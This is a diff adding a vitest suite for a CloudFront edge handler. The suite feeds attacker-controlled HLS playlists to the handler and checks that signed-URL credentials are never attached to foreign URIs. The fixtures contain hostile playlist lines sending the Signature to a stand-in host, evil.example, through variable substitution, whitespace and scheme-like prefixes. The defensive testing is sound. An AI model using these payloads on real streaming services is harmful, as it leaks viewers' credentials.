@@ -1,0 +1,92 @@
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { createServer } from 'node:http';
+import type { Server } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import type { CloudFrontResponseEvent } from 'aws-lambda';
+import { handler } from '../../src/edge/origin-response.js';
+import { captureEdgeLogs, freezeClock } from '../helpers/edge-logs.js';
+import { loadEvent } from '../helpers/events.js';
+import { suffixedCreds } from './playlists.js';
+
+// origin-response against playlists written by an attacker who controls playlist content (a third-party
+// packager, ad or SSAI manifests, user uploads): the viewer's credentials reach only the distribution's host.
+
+let body = '';
+let server: Server;
+let port = 0;
+
+beforeAll(async () => {
+  server = createServer((_req, res) => res.writeHead(200, { 'content-type': 'application/vnd.apple.mpegurl' }).end(body));
+  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
+  port = (server.address() as AddressInfo).port;
+});
+afterAll(async () => {
+  server.closeAllConnections();
+  await new Promise<void>((resolve) => server.close(() => resolve()));
+});
+const logs = captureEdgeLogs();
+freezeClock();
+
+const cf = (e: CloudFrontResponseEvent) => e.Records[0]!.cf;
+
+function playlistEvent(): CloudFrontResponseEvent {
+  const event = loadEvent('origin-response/custom-playlist-200');
+  const origin = cf(event).request.origin!.custom!;
+  origin.domainName = '127.0.0.1';
+  origin.port = port;
+  origin.protocol = 'http';
+  return event;
+}
+
+const creds = suffixedCreds(cf(loadEvent('origin-response/custom-playlist-200')).request.querystring);
+const HOST = cf(loadEvent('origin-response/custom-playlist-200')).config.distributionDomainName;
+const MEDIA = (lines: string) => `#EXTM3U\n#EXT-X-VERSION:11\n#EXT-X-TARGETDURATION:4\n${lines}\n#EXTINF:4,\nlast.ts\n#EXT-X-ENDLIST\n`;
+
+describe('origin-response against hostile playlists', () => {
+  it('answers 502 with a generic body and one log line when a QUERYPARAM copies the Signature into a foreign URI', async () => {
+    body = MEDIA('#EXT-X-DEFINE:QUERYPARAM="Signature"\n#EXT-X-MAP:URI="https://evil.example/x?s={$Signature}"\n#EXTINF:4,\na.ts');
+    const response = await handler(playlistEvent());
+    expect(response.status).toBe('502');
+    expect(response.body).toBe('Bad Gateway\n');
+    expect(response.headers['cache-control']![0]!.value).toBe('no-store');
+    const refusals = logs().filter((l) => l.includes('playlist refused'));
+    expect(refusals).toHaveLength(1);
+    expect(JSON.parse(refusals[0]!)).toMatchObject({ level: 'error', reason: 'credential-variable' });
+    for (const line of logs()) expect(line).not.toContain(creds.Signature);
+  });
+
+  it('serves a playlist that uses the credential variables only in same-host URIs', async () => {
+    body = MEDIA('#EXT-X-DEFINE:QUERYPARAM="Signature"\n#EXTINF:4,\na.ts?s={$Signature}');
+    const response = await handler(playlistEvent());
+    expect(response.status).toBe('200');
+    expect(response.body).toContain(`a.ts?s={$Signature}&Policy=${creds.Policy}&Signature=${creds.Signature}&Key-Pair-Id=${creds['Key-Pair-Id']}`);
+  });
+
+  it('withholds credentials from the review\'s leak paths and logs the reasons once, counts only', async () => {
+    body = MEDIA([
+      '#EXT-X-KEY:METHOD=AES-128,URI="\u00a0//evil.example/k"',
+      '#EXT-X-DEFINE:NAME="m",VALUE="v1",VALUE="//evil.example/x"',
+      '#EXT-X-MAP:URI="{$m}/init.mp4"',
+      '#EXTINF:4,',
+      'https:evil.example/x.ts',
+      '#EXTINF:4,',
+      '1a://evil.example/z.ts',
+    ].join('\n'));
+    const response = await handler(playlistEvent());
+    expect(response.status).toBe('200');
+    const text = response.body!;
+    for (const line of text.split('\n').filter((l) => l.includes('evil.example'))) expect(line).not.toContain(creds.Signature);
+    expect(text).toContain(`last.ts?Policy=${creds.Policy}`);
+    const withheld = logs().filter((l) => l.includes('credentials withheld'));
+    expect(withheld).toHaveLength(1);
+    expect(JSON.parse(withheld[0]!).withheld).toEqual({ 'whitespace-or-control': 1, 'ambiguous-variable': 1, 'scheme-like-prefix': 2 });
+    expect(withheld[0]).not.toContain('evil.example');
+  });
+
+  it('credentials a same-host absolute URI only on the distribution\'s own port', async () => {
+    body = MEDIA(`#EXTINF:4,\nhttps://${HOST}/movies/42/a.ts\n#EXTINF:4,\nhttps://${HOST}:8443/movies/42/b.ts`);
+    const response = await handler(playlistEvent());
+    expect(response.body).toContain(`https://${HOST}/movies/42/a.ts?Policy=`);
+    expect(response.body).toContain(`https://${HOST}:8443/movies/42/b.ts\n`);
+  });
+});
